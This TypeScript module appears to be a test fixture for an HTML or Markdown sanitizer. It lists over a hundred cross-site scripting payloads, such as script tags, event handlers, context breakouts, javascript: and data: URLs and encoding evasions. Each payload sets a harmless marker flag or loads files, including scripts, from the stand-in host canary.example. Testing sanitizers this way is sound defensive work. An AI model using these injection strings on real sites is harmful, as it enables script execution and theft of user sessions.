/**
 * Where payloads lead that load something: a page that asks this host for anything but a link has
 * let one in. It exists nowhere.
 */
export const CANARY = 'canary.example';

/** What a payload sets on the window of the page, or of the one around it, when it has run. */
export const MARK = 'payloadRan';

const run = `top.${MARK}=1`;
const from = `//${CANARY}`;

/** Elements that run something by themselves or when they load. */
const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${from}/x.js></SCRIPT>`,
  `<script src="${from}/x.js">`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>import('${from}/x.js')</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<iframe src="${from}/"></iframe>`,
  `<embed src="javascript:${run}">`,
  `<embed src="${from}/x.swf">`,
  `<object data="javascript:${run}"></object>`,
  `<object data="${from}/x"></object>`,
  `<frameset onload=${run}>`,
  `<base href="${from}/">`,
  `<link rel=stylesheet href="${from}/x.css">`,
  `<link rel=preload as=image href="${from}/x.png">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${from}/">`,
  `<style>@import '${from}/x.css';</style>`,
  `<style>*{background:url(${from}/x.png)}</style>`,
  `<p style="background:url(${from}/x.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<img src="${from}/x.png">`,
  `<img srcset="${from}/x.png 1x">`,
  `<picture><source srcset="${from}/x.png"><img></picture>`,
  `<video src="${from}/x.mp4" autoplay></video>`,
  `<video poster="${from}/x.png"></video>`,
  `<audio src="${from}/x.mp3" autoplay></audio>`,
  `<table background="${from}/x.png"><tr><td>x</td></tr></table>`,
  `<input type=image src="${from}/x.png">`,
  `<form action="${from}/"><button autofocus>x</button></form>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<portal src="${from}/"></portal>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><script>${run}</script></textarea>`,
  `<title></title><script>${run}</script>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
];

/** Handlers on elements that look harmless. */
const handlers = [
  ...['img src=x onerror', 'img src onerror', 'IMG SRC=X ONERROR', 'img/src=x/onerror'],
  ...['svg onload', 'svg/onload', 'body onload', 'body onpageshow', 'input autofocus onfocus'],
  ...['select autofocus onfocus', 'textarea autofocus onfocus', 'keygen autofocus onfocus'],
  ...['details open ontoggle', 'marquee onstart', 'video><source onerror', 'audio src=x onerror'],
  ...['object onerror', 'iframe onload', 'style onload', 'link rel=stylesheet href=x onerror'],
  ...['a tabindex=0 autofocus onfocus', 'div contenteditable autofocus onfocus', 'p onclick'],
  ...['svg><animate onbegin', 'svg><set onbegin', 'math><mi onclick', 'xss onpointerenter'],
  ...['button popovertarget=x onclick', 'div popover id=x onbeforetoggle', 'dialog open onclose'],
].map((opening) => `<${opening}=${run}>`);

/** Texts that leave an attribute, an element, a comment or a script that they are put into. */
const endings = [
  ...[`"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`],
  ...[
    `</style><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
  ],
  ...[`</script><script>${run}</script>`, `</textarea><script>${run}</script>`],
  ...[
    `" onmouseover="${run}`,
    `' onfocus='${run}' autofocus='`,
    `\` onfocus=${run} autofocus x=\``,
  ],
  ...[`";${run};//`, `';${run};//`, `\\";${run};//`, `\u2028${run}//`, `\${${run}}`, `{{${run}}}`],
  ...[`<!--><img src=x onerror=${run}>-->`, `<![CDATA[<script>${run}</script>]]>`],
  ...[`<?xml-stylesheet href="javascript:${run}"?>`, `&lt;script&gt;${run}&lt;/script&gt;`],
  ...[`\u0000<script>${run}</script>`, `<\u0000script>${run}</script>`, `\uff1cscript\uff1e${run}`],
  ...[`<img src=x onerror=&#x74;&#x6f;&#x70;&#46;${MARK}=1>`, `%3Cscript%3E${run}%3C/script%3E`],
];

const addresses = [
  ...[`javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`],
  ...[
    `&#106;avascript:${run}`,
    `javascript&colon;${run}`,
    `javascript://%0a${run}`,
    `\u0001javascript:${run}`,
  ],
  ...[`data:text/html,<script>${run}</script>`, `data:image/svg+xml,<svg onload=${run}>`],
  ...[`vbscript:${run}`, `blob:${from}`, `view-source:javascript:${run}`, `${from}/x.png`],
  ...[`/media/"onerror="${run}"/1x1.webp`, `/media/../../x"onload="${run}`, `\\\\${CANARY}\\x.png`],
];

/** The same by way of Markdown. */
const markdown = [
  ...addresses.map((address) => `[a link](${address})`),
  ...addresses.map((address) => `![a picture](${address})`),
  ...addresses.slice(0, 4).map((address) => `<${address}>`),
  `[a link][x]\n\n[x]: javascript:${run}`,
  `[<img src=x onerror=${run}>](https://example.com)`,
  `[a link](https://example.com "\\"onmouseover=${run}")`,
  `![\\"onerror=${run}](/media/1/2x3.webp)`,
  `\`\`\`\n</code></pre><script>${run}</script>\n\`\`\``,
  `|<img src=x onerror=${run}>|\n|-|\n|</td><script>${run}</script>|`,
];

/** More than a hundred texts that run a script, or load something, wherever they become markup. */
export const scriptPayloads: readonly string[] = [
  ...elements,
  ...handlers,
  ...endings,
  ...markdown,
];
